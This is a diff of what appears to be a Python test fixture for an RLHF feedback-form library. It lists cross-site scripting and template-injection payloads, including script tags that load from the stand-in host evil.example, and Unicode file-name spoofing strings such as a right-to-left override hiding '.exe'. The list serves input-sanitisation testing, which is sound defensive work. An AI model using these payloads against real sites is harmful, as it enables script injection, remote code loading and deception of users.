@@ -4,8 +4,8 @@ from hf_rlhf.feedback import Field, Form, Task
 
 RUN = "window.__xss=1"
 TAGS = [
-    f"<script>{RUN}</script>", f"<ScRiPt src=//evil.example/x.js></ScRiPt>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
-    f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", f"<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
+    f"<script>{RUN}</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
     f"<iframe src=javascript:{RUN}></iframe>", f"<a href=javascript:{RUN}>click</a>", f"<input autofocus onfocus={RUN}>",
     f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>",
     f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<form action=javascript:{RUN}><button>x</button></form>",
@@ -16,7 +16,7 @@ TAGS = [
     f"<template><script>{RUN}</script></template>", f"<x onclick={RUN}>x</x>", f"\"><img src=x onerror={RUN}>", f"'><svg/onload={RUN}>",
     f"\" onmouseover={RUN} x=\"", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", "{{constructor.constructor('window.__xss=1')()}}",
     "${window.__xss=1}", "`${window.__xss=1}`", "<%= 7*7 %>", "#{7*7}", "{% raw %}", "[[__proto__]]", "__proto__", "constructor",
-    f"<img src=//evil.example/p.png>", "![x](//evil.example/p.png)", f"[x](javascript:{RUN})", "<dialog open>owned</dialog>",
+    "<img src=//evil.example/p.png>", "![x](//evil.example/p.png)", f"[x](javascript:{RUN})", "<dialog open>owned</dialog>",
 ]  # fmt: skip
 LETTERS = [
     "\u202egnp.exe", "\u2066\u2067\u2069", "a\u200bb\u200cc\u200dd\ufeffe", "مرحبا بالعالم", "שלום <b>עולם</b>", "漢字かな交じり文",
